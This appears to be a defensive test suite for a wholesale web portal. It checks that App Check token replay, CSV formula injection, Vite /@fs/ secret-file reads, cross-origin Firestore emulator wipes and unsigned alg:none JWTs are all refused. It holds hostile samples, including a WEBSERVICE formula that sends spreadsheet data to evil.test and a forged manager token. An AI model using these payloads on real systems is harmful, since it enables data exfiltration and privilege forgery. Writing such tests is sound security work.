/**
 * Attacks on App Check, the CSV exports and the dev stack (docs/security.md: W3, W5, D1, D2, D3).
 * Each row goes through a door an attacker has: HTTP to the deployed callables, the handlers with
 * a crafted request, the web app's export functions as the dashboard calls them, HTTP to the Vite
 * dev server and to the Firestore emulator.
 */
import { randomUUID } from 'node:crypto';
import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import express from 'express';
import { getAppCheck, type AppCheck } from 'firebase-admin/app-check';
import type { ViteDevServer } from 'vite';
import { afterAll, beforeAll, expect, vi } from 'vitest';
import { startFirestoreEmulator } from '../../../emulators/firestore/src/index';
import { startAppCheckExchange } from '../../../scripts/lib/app-check-exchange';
import { getSalesOverviewHandler } from '../../src/handlers/get-sales-overview';
import { subscribeNewsletterHandler } from '../../src/handlers/newsletter';
import { deployedCallables } from '../support/deployed-callables';
import { attackTable } from './attack-table';

const ROOT = fileURLToPath(new URL('../../..', import.meta.url));
const WEB = path.join(ROOT, 'web');
const PROJECT = process.env.GCLOUD_PROJECT ?? 'demo-wholesale-portal';
const APP_ID = '1:000000000000:web:000000000000';
const HOSTILE = 'Acme;=WEBSERVICE("http://evil.test/?"&A1)';
/** The anonymous callables an attacker drives with one copied App Check token. */
const ANONYMOUS = [
  'requestPasswordReset',
  'syncEmailVerification',
  'subscribeNewsletter',
  'confirmNewsletter',
  'unsubscribeNewsletter',
];

let server: ReturnType<ReturnType<typeof express>['listen']> | undefined;
let base = '';

beforeAll(async () => {
  const app = express();
  app.use(express.json());
  for (const [name, fn] of deployedCallables()) {
    app.post(`/${name}`, (req, res) => void (fn as (a: unknown, b: unknown) => unknown)(req, res));
  }
  await new Promise<void>((resolve) => {
    server = app.listen(0, '127.0.0.1', () => resolve());
  });
  base = `http://127.0.0.1:${(server!.address() as AddressInfo).port}`;
});
afterAll(async () => {
  await new Promise<void>((resolve) => server?.close(() => resolve()));
});

async function call(name: string, token: string) {
  const response = await fetch(`${base}/${name}`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', 'x-firebase-appcheck': token },
    // Data no callable accepts: a call that gets past App Check is refused for its data only.
    body: JSON.stringify({ data: { unexpected: true } }),
  });
  const body = (await response.json()) as { error?: { status: string; message: string } };
  return { status: response.status, message: body.error?.message ?? '' };
}
const passedAppCheck = (answer: { status: number; message: string }) =>
  !(answer.status === 401 && answer.message === 'Unauthenticated');

/** Stands in for App Check's backend behind the Functions runtime, for one row. */
function appCheckBackend(
  verify: (token: string, consume: boolean) => { alreadyConsumed?: boolean },
): () => void {
  const appCheck: AppCheck = getAppCheck();
  const spy = vi.spyOn(appCheck, 'verifyToken').mockImplementation((async (
    token: string,
    options?: { consume?: boolean },
  ) => ({
    appId: APP_ID,
    token: { sub: APP_ID },
    ...verify(token, options?.consume === true),
  })) as unknown as AppCheck['verifyToken']);
  return () => spy.mockRestore();
}

/** Runs `body` with the Functions emulator's environment (the local App Check check on). */
async function asFunctionsEmulator<T>(debugToken: string, body: () => Promise<T>): Promise<T> {
  const env = {
    FUNCTIONS_EMULATOR: 'true',
    APP_CHECK_DEBUG_TOKEN: debugToken,
    GCLOUD_PROJECT: PROJECT,
  };
  const saved = Object.fromEntries(Object.keys(env).map((key) => [key, process.env[key]]));
  Object.assign(process.env, env);
  try {
    return await body();
  } finally {
    for (const [key, value] of Object.entries(saved)) {
      if (value === undefined) delete process.env[key];
      else process.env[key] = value;
    }
  }
}

const unsigned = (payload: object) =>
  `${[{ alg: 'none', typ: 'JWT' }, payload]
    .map((part) => Buffer.from(JSON.stringify(part)).toString('base64url'))
    .join('.')}.`;

/** A Vite dev server with the web app's config, started for a row and stopped after. */
async function withViteServer<T>(
  body: (vite: ViteDevServer, url: string) => Promise<T>,
): Promise<T> {
  const { createServer } = await import('vite');
  const vite = await createServer({
    configFile: path.join(WEB, 'vite.config.ts'),
    root: WEB,
    logLevel: 'silent',
    server: { port: 0, strictPort: false, host: '127.0.0.1', hmr: false, watch: null },
    optimizeDeps: { noDiscovery: true, include: [] },
  });
  try {
    await vite.listen();
    const address = vite.httpServer?.address() as AddressInfo;
    return await body(vite, `http://127.0.0.1:${address.port}`);
  } finally {
    await vite.close();
  }
}

/** Every cell of a CSV line as written, quotes included (no line break inside a cell here). */
function rawCells(line: string): string[] {
  const cells: string[] = [];
  let start = 0;
  for (;;) {
    let at = start;
    if (line[at] === '"') {
      at += 1;
      while (at < line.length && !(line[at] === '"' && line[at + 1] !== '"')) {
        at += line[at] === '"' ? 2 : 1;
      }
      at += 1;
    }
    const comma = line.indexOf(',', at);
    cells.push(line.slice(start, comma === -1 ? line.length : comma));
    if (comma === -1) return cells;
    start = comma + 1;
  }
}

attackTable('App Check, CSV exports and the dev stack', [
  {
    id: 'W3',
    attack: 'replays one App Check token on every anonymous callable (production runtime)',
    run: async () => {
      // App Check's backend: every token valid; a consumed token is reported as such next time.
      const spent = new Set<string>();
      const restore = appCheckBackend((token, consume) => {
        if (!consume) return {};
        const alreadyConsumed = spent.has(token);
        spent.add(token);
        return { alreadyConsumed };
      });
      try {
        for (const name of ANONYMOUS) {
          const token = `copied-token-${name}-${randomUUID()}`;
          expect(passedAppCheck(await call(name, token)), name).toBe(true);
          const replay = await call(name, token);
          expect(replay, `${name}: the replayed token`).toEqual({
            status: 401,
            message: 'Unauthenticated',
          });
        }
      } finally {
        restore();
      }
    },
  },
  {
    id: 'W3',
    attack:
      'replays one token from the local App Check exchange on the anonymous callables (Functions emulator)',
    timeoutMs: 30_000,
    run: async () => {
      const debugToken = randomUUID();
      const exchange = await startAppCheckExchange({
        host: '127.0.0.1',
        port: 0,
        projectId: PROJECT,
        debugToken,
      });
      // The emulator's runtime verifies nothing and reports every token as never spent.
      const restore = appCheckBackend((_token, consume) =>
        consume ? { alreadyConsumed: false } : {},
      );
      try {
        await asFunctionsEmulator(debugToken, async () => {
          for (const name of ANONYMOUS) {
            const minted = await fetch(
              `${exchange.url}/v1/projects/${PROJECT}/apps/${encodeURIComponent(APP_ID)}:exchangeDebugToken`,
              {
                method: 'POST',
                headers: { 'content-type': 'application/json' },
                body: JSON.stringify({ debugToken }),
              },
            );
            const { token } = (await minted.json()) as { token: string };
            expect(passedAppCheck(await call(name, token)), name).toBe(true);
            expect(passedAppCheck(await call(name, token)), `${name}: the replayed token`).toBe(
              false,
            );
          }
        });
      } finally {
        restore();
        await exchange.close();
      }
    },
  },
  {
    id: 'W5',
    attack:
      'a store name, e-mail, address and product name that a spreadsheet would run as formulas',
    timeoutMs: 60_000,
    run: async () => {
      await withViteServer(async (vite) => {
        const load = (module: string) => vite.ssrLoadModule(`/src/features/admin/${module}`);
        const orders = (await load('orders/orders-csv.ts')) as {
          buildOrdersCsv: (rows: unknown[]) => string;
        };
        const companies = (await load('companies/companies-csv.ts')) as {
          buildCompaniesCsv: (rows: unknown[]) => string;
        };
        const catalog = (await load('catalog/catalog-csv.ts')) as {
          buildCatalogCsv: (products: unknown[]) => string | Promise<string>;
        };
        const exports: Array<[string, string]> = [
          [
            'orders',
            orders.buildOrdersCsv([
              {
                id: 'ord_1',
                createdAt: '2026-01-01T00:00:00.000Z',
                storeName: HOSTILE,
                status: 'processing',
                paymentType: 'one_time',
                amount: 100,
                refundedAmount: 0,
                invoiceNumber: null,
                email: '+1@evil.test',
                role: 'retailer',
                shipTo: '@SUM(A1)',
                lines: '-2+3 x 1',
                paidAt: null,
              },
            ]),
          ],
          [
            'companies',
            companies.buildCompaniesCsv([
              {
                id: 'c1',
                name: HOSTILE,
                businessType: 'retailer',
                sellerPermitId: '\t=1+1',
                status: 'pending',
                memberCount: 1,
                locationCount: 1,
                cities: ['@SUM(A1)'],
                createdAt: null,
                reviewedAt: null,
                applicantName: '=HYPERLINK("http://evil.test")',
                applicantEmail: '-2+3@evil.test',
                applicantEmailVerified: false,
                ownerUid: 'c1',
              },
            ]),
          ],
          [
            'catalog',
            await catalog.buildCatalogCsv([
              {
                id: 'p1',
                sku: 'SKU-1',
                name: HOSTILE,
                category: '+Syrups',
                description: '@SUM(A1)',
                images: [],
                image_url: '/p.png',
                price_retailer: 100,
                price_wholesaler: 90,
                price_breaks: [],
                wholesale_breaks: [],
                case_pack: 1,
                min_quantity: 1,
                stock_on_hand: null,
                stock_reserved: 0,
                is_active: true,
                sort_order: 0,
                created_at: new Date(0),
              },
            ]),
          ],
        ];
        for (const [kind, csv] of exports) {
          const lines = csv
            .replace(/^\uFEFF/, '')
            .split('\r\n')
            .filter(Boolean);
          for (const line of lines) {
            for (const cell of rawCells(line)) {
              // Every cell quoted; inside the quotes nothing starts a formula.
              expect(cell, `${kind}: ${cell}`).toMatch(/^".*"$/s);
              expect(cell.slice(1), `${kind}: ${cell}`).not.toMatch(/^[=+\-@\t\r]/);
            }
          }
          expect(csv, kind).toContain('"Acme;=WEBSERVICE(""http://evil.test/?""&A1)"');
        }
      });
    },
  },
  {
    id: 'D1',
    attack: 'a page asks the Vite dev server for functions/.secret.local through /@fs/',
    timeoutMs: 60_000,
    run: async () => {
      const secret = `sk_test_${randomUUID()}`;
      const dir = path.join(ROOT, 'functions', `.attack-${randomUUID().slice(0, 8)}`);
      mkdirSync(dir, { recursive: true });
      const files = ['.secret.local', '.env.local', 'creds.local'];
      for (const file of files)
        writeFileSync(path.join(dir, file), `STRIPE_SECRET_KEY=${secret}\n`);
      try {
        await withViteServer(async (_vite, url) => {
          for (const file of files) {
            for (const target of [
              `${url}/@fs${path.join(dir, file)}`,
              `${url}/@fs${path.join(dir, file)}?raw`,
            ]) {
              const response = await fetch(target);
              const text = await response.text();
              expect([403, 404], target).toContain(response.status);
              expect(text, target).not.toContain(secret);
            }
          }
        });
      } finally {
        rmSync(dir, { recursive: true, force: true });
      }
    },
  },
  {
    id: 'D2',
    attack: 'a page on http://evil.test wipes and exports the Firestore emulator',
    timeoutMs: 30_000,
    run: async () => {
      const project = `demo-attack-${randomUUID().slice(0, 8)}`;
      const emulator = await startFirestoreEmulator({ port: 0, projectId: project, log: () => {} });
      try {
        const doc = `${emulator.url}/v1/projects/${project}/databases/(default)/documents/orders/o1`;
        const admin = { authorization: 'Bearer owner', 'content-type': 'application/json' };
        const seeded = await fetch(doc, {
          method: 'PATCH',
          headers: admin,
          body: JSON.stringify({ fields: { n: { integerValue: '1' } } }),
        });
        expect(seeded.status).toBe(200);
        const clear = `${emulator.url}/emulator/v1/projects/${project}/databases/(default)/documents`;
        const evil = { origin: 'http://evil.test' };
        const preflight = await fetch(clear, {
          method: 'OPTIONS',
          headers: { ...evil, 'access-control-request-method': 'DELETE' },
        });
        expect(preflight.headers.get('access-control-allow-origin')).toBeNull();
        const wipe = await fetch(clear, { method: 'DELETE', headers: evil });
        expect(wipe.headers.get('access-control-allow-origin')).toBeNull();
        expect(wipe.status).toBe(403);
        // A simple request needs no preflight: the emulator itself must refuse it.
        const exported = await fetch(`${emulator.url}/emulator/v1/projects/${project}:export`, {
          method: 'POST',
          headers: { ...evil, 'content-type': 'text/plain' },
          body: JSON.stringify({ export_directory: 'attack-export' }),
        });
        expect(exported.status).toBe(403);
        expect((await fetch(doc, { headers: admin })).status).toBe(200);
        // The developer's own pages still work.
        const local = await fetch(clear, {
          method: 'DELETE',
          headers: { origin: 'http://localhost:5173' },
        });
        expect(local.status).toBe(200);
        expect((await fetch(doc, { headers: admin })).status).toBe(404);
      } finally {
        await emulator.stop();
      }
    },
  },
  {
    id: 'D3',
    attack: 'unsigned (alg: none) App Check and ID tokens sent to our own checks',
    run: async () => {
      const now = Math.floor(Date.now() / 1000);
      const appCheck = unsigned({
        sub: APP_ID,
        aud: [`projects/${PROJECT}`],
        iat: now,
        exp: now + 600,
        jti: randomUUID(),
      });
      const manager = unsigned({
        sub: 'attacker',
        user_id: 'attacker',
        role: 'manager',
        status: 'approved',
        aud: PROJECT,
        iss: `https://securetoken.google.com/${PROJECT}`,
        iat: now,
        exp: now + 600,
      });
      await asFunctionsEmulator(randomUUID(), async () => {
        await expect(
          subscribeNewsletterHandler({
            data: { email: `d3-${randomUUID().slice(0, 8)}@example.com` },
            rawRequest: { headers: { 'x-firebase-appcheck': appCheck } },
          }),
        ).rejects.toMatchObject({ code: 'unauthenticated', message: 'Unauthenticated' });
      });
      // Our handlers take the caller from the runtime's verified request.auth only: an
      // Authorization header they are handed is never decoded.
      await expect(
        getSalesOverviewHandler({
          data: {},
          rawRequest: { headers: { authorization: `Bearer ${manager}` } },
        }),
      ).rejects.toMatchObject({ code: 'unauthenticated' });
    },
  },
]);
